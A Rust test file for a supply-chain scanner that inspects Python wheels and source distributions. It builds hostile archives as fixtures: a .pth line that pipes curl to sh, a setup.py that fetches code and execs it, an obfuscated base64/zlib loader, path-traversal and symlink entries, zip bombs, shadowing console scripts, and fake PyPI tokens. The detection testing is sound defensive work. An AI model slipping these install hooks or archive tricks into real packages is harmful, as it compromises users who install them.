//! Python distribution content (content::python): the real wheels and sdists of the
//! pypi-attestations test assets, and hostile archives built here.
use std::io::Write;

use flate2::write::{DeflateEncoder, GzEncoder};
use flate2::Compression;
use mcp_audit::content::python::{
    analyze_dist, parse_dist_filename, DistKind, PyPathProblemKind, PythonContentReport,
};
use mcp_audit::content::Limits;

use crate::support::assert_no_leak;
use crate::support::fixtures::fixture;

// ---------------------------------------------------------------------------------------------
// Building archives

/// One zip entry. Names are written byte for byte, and the sizes the headers declare can lie.
struct Z<'a> {
    name: &'a [u8],
    data: &'a [u8],
    deflate: bool,
    /// Uncompressed size to declare instead of the real one.
    declared: Option<u32>,
    symlink: bool,
}

fn z<'a>(name: &'a str, data: &'a [u8]) -> Z<'a> {
    Z {
        name: name.as_bytes(),
        data,
        deflate: true,
        declared: None,
        symlink: false,
    }
}

/// A minimal zip writer (local headers, central directory, end record): the zip crate's writer
/// refuses duplicate and `..` names, which are exactly what these tests need.
fn zip_of(entries: &[Z]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for e in entries {
        let mut crc = flate2::Crc::new();
        crc.update(e.data);
        let body = if e.deflate {
            let mut enc = DeflateEncoder::new(Vec::new(), Compression::default());
            enc.write_all(e.data).unwrap();
            enc.finish().unwrap()
        } else {
            e.data.to_vec()
        };
        let method: u16 = if e.deflate { 8 } else { 0 };
        let size = e.declared.unwrap_or(e.data.len() as u32);
        let offset = out.len() as u32;
        let common = |v: &mut Vec<u8>| {
            v.extend(20u16.to_le_bytes()); // version needed
            v.extend(0u16.to_le_bytes()); // flags
            v.extend(method.to_le_bytes());
            v.extend(0u32.to_le_bytes()); // time, date
            v.extend(crc.sum().to_le_bytes());
            v.extend((body.len() as u32).to_le_bytes());
            v.extend(size.to_le_bytes());
            v.extend((e.name.len() as u16).to_le_bytes());
            v.extend(0u16.to_le_bytes()); // extra length
        };
        out.extend(0x0403_4b50u32.to_le_bytes());
        common(&mut out);
        out.extend(e.name);
        out.extend(&body);

        central.extend(0x0201_4b50u32.to_le_bytes());
        central.extend((3u16 << 8 | 20).to_le_bytes()); // made by: unix
        common(&mut central);
        central.extend(0u16.to_le_bytes()); // comment length
        central.extend(0u16.to_le_bytes()); // disk
        central.extend(0u16.to_le_bytes()); // internal attributes
        let mode: u32 = if e.symlink { 0o120777 } else { 0o100644 };
        central.extend((mode << 16).to_le_bytes());
        central.extend(offset.to_le_bytes());
        central.extend(e.name);
    }
    let cd_offset = out.len() as u32;
    out.extend(&central);
    out.extend(0x0605_4b50u32.to_le_bytes());
    out.extend([0u8; 4]);
    out.extend((entries.len() as u16).to_le_bytes());
    out.extend((entries.len() as u16).to_le_bytes());
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(cd_offset.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

fn tar_header(path: &[u8], kind: tar::EntryType, size: u64, link: Option<&[u8]>) -> tar::Header {
    let mut h = tar::Header::new_ustar();
    {
        let old = h.as_old_mut();
        old.name.fill(0);
        old.name[..path.len()].copy_from_slice(path);
        if let Some(link) = link {
            old.linkname.fill(0);
            old.linkname[..link.len()].copy_from_slice(link);
        }
    }
    h.set_entry_type(kind);
    h.set_size(size);
    h.set_mode(0o644);
    h.set_cksum();
    h
}

/// A gzipped tar of regular files, names byte for byte.
fn sdist_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (p, data) in files {
        b.append(
            &tar_header(
                p.as_bytes(),
                tar::EntryType::Regular,
                data.len() as u64,
                None,
            ),
            *data,
        )
        .unwrap();
    }
    let tar = b.into_inner().unwrap();
    let mut e = GzEncoder::new(Vec::new(), Compression::default());
    e.write_all(&tar).unwrap();
    e.finish().unwrap()
}

const METADATA: &[u8] =
    b"Metadata-Version: 2.1\nName: demo-server\nVersion: 1.0\nRequires-Dist: mcp>=1.0\n\nbody\n";

fn wheel(extra: &[Z]) -> Vec<u8> {
    let mut entries = vec![
        z("demo_server/__init__.py", b"def main():\n    pass\n"),
        z("demo_server-1.0.dist-info/METADATA", METADATA),
        z("demo_server-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        z("demo_server-1.0.dist-info/RECORD", b""),
    ];
    for e in extra {
        entries.push(Z {
            name: e.name,
            data: e.data,
            deflate: e.deflate,
            declared: e.declared,
            symlink: e.symlink,
        });
    }
    zip_of(&entries)
}

const WHEEL_NAME: &str = "demo_server-1.0-py3-none-any.whl";

fn run_wheel(extra: &[Z]) -> PythonContentReport {
    analyze_dist(WHEEL_NAME, &wheel(extra), &Limits::default())
}

fn problems(r: &PythonContentReport, kind: PyPathProblemKind) -> Vec<&str> {
    r.path_problems
        .iter()
        .filter(|p| p.kind == kind)
        .map(|p| p.path.as_str())
        .collect()
}

/// Made at run time so that no token-shaped string sits in the source.
fn pypi_token(seed: u64) -> String {
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let body: String = (0..150)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            alphabet[(x % 64) as usize] as char
        })
        .collect();
    format!("pypi-AgEIcHlwaS5vcmc{body}")
}

// ---------------------------------------------------------------------------------------------
// Real distributions

#[test]
fn real_wheels_parse_cleanly() {
    for (file, name, version) in [
        ("rfc8785-0.1.2-py3-none-any.whl", "rfc8785", "0.1.2"),
        (
            "circleci_sign_publish_example-0.0.1.dev137-py3-none-any.whl",
            "circleci-sign-publish-example",
            "0.0.1.dev137",
        ),
    ] {
        let r = analyze_dist(
            file,
            &fixture(&format!("pypi/pep740/{file}")),
            &Limits::default(),
        );
        assert!(r.complete, "{file}: {:?}", r.errors);
        assert!(r.errors.is_empty(), "{file}: {:?}", r.errors);
        assert_eq!(r.kind, DistKind::Wheel);
        let meta = r
            .metadata
            .as_ref()
            .unwrap_or_else(|| panic!("{file}: {:?}", r.metadata_error));
        let fname = r.filename.as_ref().unwrap();
        assert_eq!(fname.normalized_name, name);
        assert_eq!(
            mcp_audit::content::python::normalize_name(meta.name.as_deref().unwrap()),
            name
        );
        assert_eq!(meta.version.as_deref(), Some(version));
        assert!(r.files > 3);
        assert!(r.pth_exec.is_empty() && r.secrets.is_empty() && r.native_binaries.is_empty());
        assert!(r.path_problems.is_empty(), "{file}: {:?}", r.path_problems);
        assert!(r.shadowing_scripts().next().is_none());
    }
}

#[test]
fn real_sdists_parse_cleanly() {
    for (file, name) in [
        ("pypi_attestations-0.0.19.tar.gz", "pypi-attestations"),
        (
            "pypi_attestation_models-0.0.4a2.tar.gz",
            "pypi-attestation-models",
        ),
        ("gitlab_oidc_project-0.0.3.tar.gz", "gitlab-oidc-project"),
        ("gcb_attestation_test-0.0.0.tar.gz", "gcb-attestation-test"),
    ] {
        let r = analyze_dist(
            file,
            &fixture(&format!("pypi/pep740/{file}")),
            &Limits::default(),
        );
        assert!(r.complete, "{file}: {:?}", r.errors);
        assert_eq!(r.kind, DistKind::Sdist);
        let meta = r
            .metadata
            .as_ref()
            .unwrap_or_else(|| panic!("{file}: {:?}", r.metadata_error));
        assert_eq!(
            mcp_audit::content::python::normalize_name(meta.name.as_deref().unwrap()),
            name,
            "{file}"
        );
        assert!(meta.file.ends_with("/PKG-INFO"));
        assert!(r.pth_exec.is_empty() && r.secrets.is_empty(), "{file}");
        assert!(
            r.build_scripts
                .iter()
                .all(|b| !b.signals.iter().any(|s| s == "fetch")),
            "{file}: {:?}",
            r.build_scripts
        );
    }
    let r = analyze_dist(
        "pypi_attestations-0.0.19.tar.gz",
        &fixture("pypi/pep740/pypi_attestations-0.0.19.tar.gz"),
        &Limits::default(),
    );
    let meta = r.metadata.unwrap();
    assert!(
        meta.requires_dist.iter().any(|d| d.starts_with("sigstore")),
        "{meta:?}"
    );
    assert!(r.entry_points.is_empty(), "{:?}", r.entry_points);
}

// ---------------------------------------------------------------------------------------------
// What a wheel can hide

#[test]
fn pth_that_imports_is_reported() {
    let r = run_wheel(&[
        z(
            "evil.pth",
            b"/some/path\nimport os; os.system('curl https://x.invalid | sh')\n",
        ),
        z("plain.pth", b"demo_server/vendor\n"),
    ]);
    assert_eq!(r.pth_files.len(), 2);
    assert_eq!(r.pth_exec.len(), 1);
    assert_eq!(r.pth_exec[0].file, "evil.pth");
    assert_eq!(r.pth_exec[0].line, 2);
    assert!(r.pth_exec[0].code.starts_with("import os"));
    // A tab after `import` executes too; leading whitespace does not (site.py's own test).
    let r = run_wheel(&[z("t.pth", b"import\tsys\n import os\n")]);
    assert_eq!(r.pth_exec.len(), 1);
}

#[test]
fn console_scripts_that_shadow_commands() {
    let ep = b"[console_scripts]\ndemo-server = demo_server:main\npython = demo_server:evil\nls = demo_server:evil\n\n[demo.plugins]\npip = x:y\n";
    let r = run_wheel(&[z("demo_server-1.0.dist-info/entry_points.txt", ep)]);
    let shadowing: Vec<&str> = r.shadowing_scripts().map(|e| e.name.as_str()).collect();
    assert_eq!(shadowing, ["python", "ls"]);
    assert_eq!(r.entry_points.len(), 3, "other groups are not scripts");
    // Scripts shipped as data files land in bin/ too.
    let r = run_wheel(&[z("demo_server-1.0.data/scripts/pip", b"#!python\n")]);
    assert_eq!(
        r.shadowing_scripts()
            .map(|e| e.group.as_str())
            .collect::<Vec<_>>(),
        ["data-scripts"]
    );
}

#[test]
fn the_projects_own_name_is_not_shadowing() {
    let meta = b"Metadata-Version: 2.1\nName: uv\nVersion: 1.0\n";
    let bytes = zip_of(&[
        z("uv-1.0.dist-info/METADATA", meta),
        z(
            "uv-1.0.dist-info/entry_points.txt",
            b"[console_scripts]\nuv = uv:main\n",
        ),
    ]);
    let r = analyze_dist("uv-1.0-py3-none-any.whl", &bytes, &Limits::default());
    assert_eq!(r.entry_points.len(), 1);
    assert!(r.shadowing_scripts().next().is_none());
}

#[test]
fn leaked_credentials_are_found_and_redacted() {
    let token = pypi_token(7);
    let pypirc = format!("[pypi]\nusername = __token__\npassword = {token}\n\n[testpypi]\npassword = hunter2-real-pw-9f8e\n");
    let code = format!("TOKEN = '{token}'\n");
    let r = run_wheel(&[
        z("demo_server/.pypirc", pypirc.as_bytes()),
        z("demo_server/config.py", code.as_bytes()),
    ]);
    let kinds: Vec<(&str, &str)> = r
        .secrets
        .iter()
        .map(|s| (s.file.as_str(), s.kind.as_str()))
        .collect();
    assert!(
        kinds.contains(&("demo_server/.pypirc", "pypi-token")),
        "{kinds:?}"
    );
    assert!(
        kinds.contains(&("demo_server/.pypirc", "pypirc-password")),
        "{kinds:?}"
    );
    assert!(
        kinds.contains(&("demo_server/config.py", "pypi-token")),
        "{kinds:?}"
    );
    // The token line of .pypirc is reported once, as a token.
    assert_eq!(
        kinds
            .iter()
            .filter(|k| k.0 == "demo_server/.pypirc")
            .count(),
        2
    );
    let json = serde_json::to_string(&r).unwrap();
    assert_no_leak("the report", &json, &token);
    assert_no_leak("the report", &json, "hunter2-real-pw-9f8e");
    // A placeholder is not a leak.
    let r = run_wheel(&[z(".pypirc", b"[pypi]\npassword = <your token here>\n")]);
    assert!(r.secrets.is_empty(), "{:?}", r.secrets);
    // An import line in a .pth that carries a token shows it redacted.
    let pth = format!("import os; os.environ['T'] = '{token}'\n");
    let r = run_wheel(&[z("x.pth", pth.as_bytes())]);
    assert_eq!(r.pth_exec.len(), 1);
    assert_no_leak("the report", &serde_json::to_string(&r).unwrap(), &token);
}

#[test]
fn native_extensions_and_obfuscation() {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(256, 0);
    let payload = "exec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))\n";
    let r = run_wheel(&[
        z(
            "demo_server/_speedups.cpython-312-x86_64-linux-gnu.so",
            &elf,
        ),
        z("demo_server/_win.pyd", b"not really a PE"),
        z("demo_server/loader.py", payload.as_bytes()),
    ]);
    let kinds: Vec<(&str, &str)> = r
        .native_binaries
        .iter()
        .map(|n| (n.file.as_str(), n.kind.as_str()))
        .collect();
    assert!(kinds.contains(&(
        "demo_server/_speedups.cpython-312-x86_64-linux-gnu.so",
        "elf"
    )));
    assert!(kinds.contains(&("demo_server/_win.pyd", "python-extension")));
    assert!(r
        .obfuscation
        .iter()
        .any(|o| o.file == "demo_server/loader.py" && o.signal == "exec-decoded"));
}

#[test]
fn hostile_paths_in_a_wheel() {
    let r = run_wheel(&[
        z("../../etc/evil.py", b"x"),
        z("/abs/evil.py", b"x"),
        z("demo_server\\win.py", b"x"),
        z("demo_server/__init__.py", b"print('the second copy')\n"),
        Z {
            symlink: true,
            deflate: false,
            ..z("demo_server/link", b"/etc/passwd")
        },
    ]);
    assert_eq!(
        problems(&r, PyPathProblemKind::ParentDir),
        ["../../etc/evil.py"]
    );
    assert_eq!(problems(&r, PyPathProblemKind::Absolute), ["/abs/evil.py"]);
    assert_eq!(
        problems(&r, PyPathProblemKind::Backslash),
        ["demo_server\\win.py"]
    );
    assert_eq!(
        problems(&r, PyPathProblemKind::Duplicate),
        ["demo_server/__init__.py"]
    );
    assert_eq!(
        problems(&r, PyPathProblemKind::Symlink),
        ["demo_server/link"]
    );
}

#[test]
fn zip_bomb_stops_at_the_budget() {
    let zeros = vec![0u8; 64 * 1024 * 1024];
    let bytes = wheel(&[z("demo_server/bomb.bin", &zeros)]);
    assert!(bytes.len() < 200 * 1024, "{}", bytes.len());
    let r = analyze_dist(WHEEL_NAME, &bytes, &Limits::default());
    assert!(!r.complete);
    assert!(
        r.errors.iter().any(|e| e.contains("declare")),
        "{:?}",
        r.errors
    );
    assert!(
        r.errors.iter().any(|e| e.contains("exceeds")),
        "{:?}",
        r.errors
    );
    assert!(r.uncompressed_bytes <= Limits::default().uncompressed_budget(bytes.len() as u64) + 1);
}

#[test]
fn declared_sizes_that_lie() {
    // The central directory says 10 bytes; the entry inflates to 100 000.
    let data = vec![b'a'; 100_000];
    let r = run_wheel(&[Z {
        declared: Some(10),
        ..z("demo_server/liar.py", &data)
    }]);
    assert_eq!(
        r.path_problems
            .iter()
            .filter(|p| p.kind == PyPathProblemKind::SizeMismatch)
            .count(),
        1,
        "{:?} {:?}",
        r.path_problems,
        r.errors
    );
    let r = run_wheel(&[Z {
        declared: Some(1_000_000),
        deflate: false,
        ..z("demo_server/short.py", b"short")
    }]);
    assert_eq!(
        r.path_problems
            .iter()
            .filter(|p| p.kind == PyPathProblemKind::SizeMismatch)
            .count(),
        1,
        "{:?} {:?}",
        r.path_problems,
        r.errors
    );
}

#[test]
fn too_many_files_is_incomplete() {
    let names: Vec<String> = (0..50).map(|i| format!("demo_server/m{i}.py")).collect();
    let entries: Vec<Z> = names.iter().map(|n| z(n, b"x = 1\n")).collect();
    let limits = Limits {
        max_files: 10,
        ..Limits::default()
    };
    let r = analyze_dist(WHEEL_NAME, &zip_of(&entries), &limits);
    assert!(!r.complete);
    assert!(r.errors.iter().any(|e| e.contains("max_files")));
    assert!(r.files <= 10);
}

#[test]
fn invalid_names_and_garbage_are_reported_not_fatal() {
    let r = analyze_dist("not-a-wheel.whl", &wheel(&[]), &Limits::default());
    assert!(r
        .filename_error
        .as_deref()
        .unwrap()
        .contains("invalid wheel filename"));
    assert!(r.complete, "the content is still read");
    for name in [
        "demo_server-1.0-py3-none-any.whl",
        "demo_server-1.0.tar.gz",
        "demo_server-1.0.zip",
    ] {
        for bytes in [
            &b""[..],
            b"garbage",
            b"PK\x05\x06",
            &[0x1f, 0x8b, 8, 0, 0][..],
        ] {
            let r = analyze_dist(name, bytes, &Limits::default());
            assert!(!r.complete, "{name}");
            assert!(!r.errors.is_empty(), "{name}");
        }
    }
    let r = analyze_dist("demo.exe", b"MZ", &Limits::default());
    assert_eq!(r.kind, DistKind::Unknown);
    assert!(!r.complete);
    assert!(parse_dist_filename("a-b-c.whl").is_err());
    assert!(parse_dist_filename("demo-notaversion.tar.gz").is_err());
    assert!(parse_dist_filename("demo-1.0-x1-py3-none-any.whl").is_err());
    let f = parse_dist_filename("Demo.Server-1.0-2-py2.py3-none-any.whl").unwrap();
    assert_eq!(f.normalized_name, "demo-server");
    assert_eq!(f.build.as_deref(), Some("2"));
    assert_eq!(f.tags, ["py2-none-any", "py3-none-any"]);
}

#[test]
fn wheel_metadata_is_parsed_for_manifest_comparison() {
    let r = run_wheel(&[]);
    let m = r.metadata.unwrap();
    assert_eq!(m.name.as_deref(), Some("demo-server"));
    assert_eq!(m.version.as_deref(), Some("1.0"));
    assert_eq!(m.requires_dist, ["mcp>=1.0"]);
    // A METADATA that names another project is reported as read; the caller compares.
    let bytes = zip_of(&[z(
        "demo_server-1.0.dist-info/METADATA",
        b"Metadata-Version: 2.1\nName: other\nVersion: 9.9\n",
    )]);
    let r = analyze_dist(WHEEL_NAME, &bytes, &Limits::default());
    assert_eq!(r.metadata.unwrap().name.as_deref(), Some("other"));
    let bytes = zip_of(&[z("demo_server/__init__.py", b"")]);
    let r = analyze_dist(WHEEL_NAME, &bytes, &Limits::default());
    assert!(r.metadata.is_none());
    assert!(r.metadata_error.unwrap().contains("METADATA"));
}

// ---------------------------------------------------------------------------------------------
// What an sdist can hide

const PKG_INFO: &[u8] = b"Metadata-Version: 2.1\nName: demo-server\nVersion: 1.0\n";

#[test]
fn setup_py_that_fetches_and_execs() {
    let setup = b"import urllib.request, base64\nfrom setuptools import setup\ncode = urllib.request.urlopen('https://x.invalid/p').read()\nexec(base64.b64decode(code))\nsetup(name='demo-server')\n";
    let bytes = sdist_of(&[
        ("demo_server-1.0/PKG-INFO", PKG_INFO),
        ("demo_server-1.0/setup.py", setup),
    ]);
    let r = analyze_dist("demo_server-1.0.tar.gz", &bytes, &Limits::default());
    assert!(r.complete, "{:?}", r.errors);
    assert_eq!(r.build_scripts.len(), 1);
    let b = &r.build_scripts[0];
    assert_eq!(b.file, "demo_server-1.0/setup.py");
    for s in ["fetch", "decode", "exec"] {
        assert!(b.signals.iter().any(|x| x == s), "{s} in {:?}", b.signals);
    }
    assert_eq!(b.lines[0], 1);
}

#[test]
fn ordinary_setup_py_and_in_tree_backends() {
    // Reading __version__ with exec(open(...)) is common and shown as exec-file only; a
    // dependency named `requests` is not a fetch.
    let setup = b"from setuptools import setup\nexec(open('demo/version.py').read())\nsetup(name='demo', install_requires=['requests'])\n";
    let backend =
        b"import socket\ndef build_wheel(*a):\n    socket.create_connection(('x.invalid', 80))\n";
    let pyproject = b"[build-system]\nrequires = []\nbuild-backend = 'backend:api'\nbackend-path = ['_build']\n\n[project]\nname = 'demo'\n[project.scripts]\ngit = 'demo:main'\n";
    let bytes = sdist_of(&[
        ("demo-1.0/PKG-INFO", PKG_INFO),
        ("demo-1.0/setup.py", setup),
        ("demo-1.0/pyproject.toml", pyproject),
        ("demo-1.0/_build/backend.py", backend),
        ("demo-1.0/tests/test_net.py", b"import socket\n"),
    ]);
    let r = analyze_dist("demo-1.0.tar.gz", &bytes, &Limits::default());
    let by_file: Vec<(&str, Vec<&str>)> = r
        .build_scripts
        .iter()
        .map(|b| {
            (
                b.file.as_str(),
                b.signals.iter().map(String::as_str).collect(),
            )
        })
        .collect();
    assert_eq!(
        by_file,
        [
            ("demo-1.0/setup.py", vec!["exec-file"]),
            ("demo-1.0/_build/backend.py", vec!["fetch"]),
        ]
    );
    assert_eq!(
        r.shadowing_scripts()
            .map(|e| e.name.as_str())
            .collect::<Vec<_>>(),
        ["git"]
    );
}

#[test]
fn hostile_sdist_paths_and_pth() {
    let token = pypi_token(11);
    let bytes = sdist_of(&[
        ("demo-1.0/PKG-INFO", PKG_INFO),
        ("demo-1.0/../../evil.py", b"x"),
        ("/etc/cron.d/evil", b"x"),
        ("other-root/x.py", b"x"),
        ("demo-1.0/demo.pth", b"import demo._hook\n"),
        (
            "demo-1.0/.pypirc",
            format!("[pypi]\npassword = {token}\n").as_bytes(),
        ),
    ]);
    let r = analyze_dist("demo-1.0.tar.gz", &bytes, &Limits::default());
    assert!(!problems(&r, PyPathProblemKind::ParentDir).is_empty());
    assert!(!problems(&r, PyPathProblemKind::Absolute).is_empty());
    assert!(!problems(&r, PyPathProblemKind::MultipleRoots).is_empty());
    assert_eq!(r.pth_exec.len(), 1);
    assert!(r.secrets.iter().any(|s| s.kind == "pypi-token"));
    assert_no_leak("the report", &serde_json::to_string(&r).unwrap(), &token);
}

#[test]
fn sdist_gzip_bomb_stops() {
    let zeros = vec![0u8; 64 * 1024 * 1024];
    let bytes = sdist_of(&[("demo-1.0/PKG-INFO", PKG_INFO), ("demo-1.0/bomb", &zeros)]);
    let r = analyze_dist("demo-1.0.tar.gz", &bytes, &Limits::default());
    assert!(!r.complete);
    assert!(
        r.errors.iter().any(|e| e.contains("exceeds")),
        "{:?}",
        r.errors
    );
}
